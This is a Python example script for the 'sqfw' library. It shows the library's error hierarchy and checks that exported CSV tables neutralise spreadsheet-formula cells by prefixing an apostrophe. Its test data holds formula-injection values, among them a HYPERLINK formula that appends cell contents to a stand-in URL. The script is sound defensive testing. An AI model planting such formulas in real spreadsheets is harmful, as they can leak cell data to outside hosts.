"""One error tree at the API's edge, and tables that are safe to open in a spreadsheet.

Run from the repository root: ``python examples/errors_and_safe_exports.py``.
"""

# %% [markdown]
# Every refusal caused by input is one error of the `SqfwError` tree: it names the
# argument, says what was expected and what came, and is still the built-in exception
# such a call raised before (`ValueError`, `KeyError`, `FileNotFoundError`).

# %%
import csv
from pathlib import Path
from tempfile import mkdtemp

from sqfw import reports
from sqfw.analysis import assess, load_table, sample_region, save_table
from sqfw.calculators import norm
from sqfw.errors import InvalidArgumentError, MissingFileError, NotFoundError, SqfwError

result = assess(sample_region(seed=7), on="2020-12-31")

caught: list[Exception] = []
for call in (
    lambda: reports.text(result, lang="fr"),
    lambda: reports.text(result, top=0),
    lambda: result.target("nope"),
    lambda: norm("nope"),
    lambda: assess(None),  # type: ignore[arg-type]
    lambda: load_table("no-such-table.csv"),
):
    try:
        call()
    except SqfwError as error:
        print(f"{type(error).__name__}: {str(error)[:90]}")
        caught.append(error)

lang, top, target, missing_norm, no_data, no_file = caught
assert isinstance(lang, InvalidArgumentError)
assert isinstance(lang, ValueError)  # what the call raised before
assert isinstance(top, InvalidArgumentError)
assert top.argument == "top"
assert isinstance(target, NotFoundError)
assert isinstance(target, KeyError)
assert isinstance(missing_norm, NotFoundError)
assert isinstance(no_data, InvalidArgumentError)
assert isinstance(no_data, TypeError)
assert isinstance(no_file, MissingFileError)
assert isinstance(no_file, FileNotFoundError)

# %% [markdown]
# A community named like a spreadsheet formula stays a name: the CSV and .xlsx files sqfw
# writes put one apostrophe before it, and sqfw's loader takes it off again.

# %%
folder = Path(mkdtemp())
with (folder / "in.csv").open("w", encoding="utf-8", newline="") as stream:
    csv.writer(stream).writerows(
        [
            ["社区代码", "社区名称", "户数", "备注"],
            ["150102001001", '=HYPERLINK("http://x/"&A1)', "1200", "-5"],
            ["150102001002", "@SUM(1+1)", "900", "+新建"],
        ]
    )
table = load_table(folder / "in.csv")
save_table(table, folder / "out.csv")

with (folder / "out.csv").open(encoding="utf-8-sig", newline="") as stream:
    rows = list(csv.reader(stream))
names = [row[1] for row in rows[1:]]
print(names)
assert names == ['\'=HYPERLINK("http://x/"&A1)', "'@SUM(1+1)"]
remarks = [row[-1] for row in rows[1:]]
assert remarks == ["-5", "'+新建"]  # a number stays a number; a text that would run does not

back = load_table(folder / "out.csv")
assert back.communities.name == table.communities.name
assert back.communities.extra == table.communities.extra
